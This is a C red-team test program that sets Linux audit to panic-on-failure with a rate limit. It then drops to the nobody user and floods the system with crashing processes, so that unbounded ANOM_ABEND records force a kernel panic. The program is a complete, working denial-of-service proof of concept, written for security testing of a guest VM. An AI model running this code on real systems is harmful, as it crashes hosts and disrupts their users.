// SPDX-License-Identifier: GPL-2.0-only
/*
 * redteam9 RT9-3, the -f 2 half: it ends the guest.  Run alone
 * (FINDINGS.md, "How to run").  As root it sets what
 * docs/kernel-interface.md tests vendorban's bound under (auditctl -f 2
 * -r 100: "no record is lost (and the kernel does not panic)"), then as
 * nobody crashes processes in a loop: each crash is an ANOM_ABEND record
 * (audit_core_dumps(), no audit rule needed, RLIMIT_CORE 0 does not stop
 * it) that no bound governs.  Prints "not ok" if the guest is still up
 * after 30 s; the attack worked if the VM log shows "Kernel panic - not
 * syncing: audit: rate limit exceeded".
 */
#include <linux/audit.h>
#include <linux/netlink.h>
#include <signal.h>
#include <grp.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int main(void)
{
	struct {
		struct nlmsghdr nlh;
		struct audit_status s;
	} req;
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK };
	struct rlimit no_core = { 0, 0 };
	time_t end;
	int fd, i;

	fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
	memset(&req, 0, sizeof(req));
	req.nlh.nlmsg_len = NLMSG_LENGTH(sizeof(req.s));
	req.nlh.nlmsg_type = AUDIT_SET;
	req.nlh.nlmsg_flags = NLM_F_REQUEST;
	req.s.mask = AUDIT_STATUS_RATE_LIMIT | AUDIT_STATUS_FAILURE;
	req.s.rate_limit = 100;
	req.s.failure = 2;
	if (fd < 0 || sendto(fd, &req, req.nlh.nlmsg_len, 0,
			     (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("not ok 1 - AUDIT_SET -f 2 -r 100\n");
		return 1;
	}
	printf("# auditctl -f 2 -r 100 set; nobody crashes processes for 30 s\n");
	fflush(stdout);
	if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
	    setresuid(65534, 65534, 65534))
		return 1;
	setrlimit(RLIMIT_CORE, &no_core);
	end = time(NULL) + 30;
	for (i = 0; i < 3; i++)
		if (fork() == 0)
			break;
	while (time(NULL) < end) {
		pid_t pid = fork();

		if (pid == 0) {
			signal(SIGSEGV, SIG_DFL);
			raise(SIGSEGV);
			_exit(0);
		}
		if (pid > 0)
			waitpid(pid, NULL, 0);
	}
	printf("not ok 1 - the kernel did not panic under nobody's crash flood\n");
	return 1;
}
